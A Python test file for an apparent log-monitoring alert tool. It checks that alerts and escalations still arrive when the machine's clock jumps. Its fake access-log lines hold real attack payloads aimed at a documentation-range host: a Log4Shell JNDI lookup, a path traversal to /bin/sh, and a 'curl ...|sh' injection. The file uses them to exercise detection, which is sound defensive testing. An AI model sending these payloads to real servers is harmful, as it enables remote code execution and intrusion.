"""The clock of a machine that is watched jumps ahead and back: everybody is told all the same, and in time."""

from __future__ import annotations

import json
import time
from itertools import pairwise
from pathlib import Path

import pytest

from tests.serve.serving import run, serving, sink
from tests.serve.wrong_clock import WrongClock

SETTINGS = """\
store = "store"
language = "en"
[serve]
listen = "off"
[[sources]]
kind = "file"
path = "access.log"
[[notify]]
url = "{phone}"
name = "phone"
severity = "informational"
digest = "none"
[[notify]]
url = "{boss}"
name = "boss"
severity = "informational"
digest = "none"
escalate_minutes = 0.1
"""
YEARS, HOUR = 315_360_000, 3_600
AHEAD = (YEARS, 0, -YEARS, HOUR)
"""How many seconds the clock is ahead, one after the other."""

TRIED = (
    "GET /?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1", "POST /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1",
    "GET /index.php?c=curl+http://203.0.113.9/x.sh|sh HTTP/1.1", "POST /containers/create HTTP/1.1",
)  # fmt: skip
"""One attempt after the other, each of another kind and so news."""


def line(number: int) -> str:
    return f'203.0.113.7 - - [21/Jun/2026:{7 + number:02d}:00:00 +0000] "{TRIED[number]}" 404 150 "-" "-"\n'


@pytest.mark.slow
def test_everybody_is_told_in_time_while_the_clock_jumps(tmp_path: Path) -> None:
    clock, log = WrongClock(tmp_path), tmp_path / "access.log"
    log.touch()
    with sink() as phone:

        def told(path: str) -> list[str]:
            said = [item.content["title"] for item in phone.at(path)]
            return [title for title in said if "Kanaria" not in title]

        (tmp_path / "kanaria.toml").write_text(SETTINGS.format(phone=phone.url("/phone"), boss=phone.url("/boss")))
        with serving(tmp_path, **clock.environment) as service:
            for number, ahead in enumerate(AHEAD, 1):
                with log.open("a") as server:
                    server.write(line(number - 1))
                service.wait_for(lambda: len(told("/phone")) == number)  # noqa: B023
                clock.set(ahead)  # while it waits whether anybody acknowledges
                service.wait_for(lambda: service.log.count("the clock was set") == number)  # noqa: B023
                service.wait_for(lambda: len(told("/boss")) == number)  # noqa: B023
            time.sleep(2.0)  # the senders look every second
            status = json.loads(run(tmp_path, "status", "--config", "kanaria.toml", "--format", "json").stdout)
            assert service.end() == 0
        noticed = [line for line in service.log.splitlines() if "the clock was set" in line]
    said = [float(line.split("seconds=")[1].split()[0]) for line in noticed]
    assert said == pytest.approx([after - before for before, after in pairwise((0, *AHEAD))], abs=5)
    assert len(told("/phone")) == len(told("/boss")) == len(AHEAD)
    titles = [item.content["title"] for item in phone.at("/phone")]
    assert titles.count("[High] Kanaria: the clock of this machine moved by more than a day") == 1
    (source,) = status["sources"]
    assert 0 <= status["started"] + status["uptime"] - source["last"] < 60
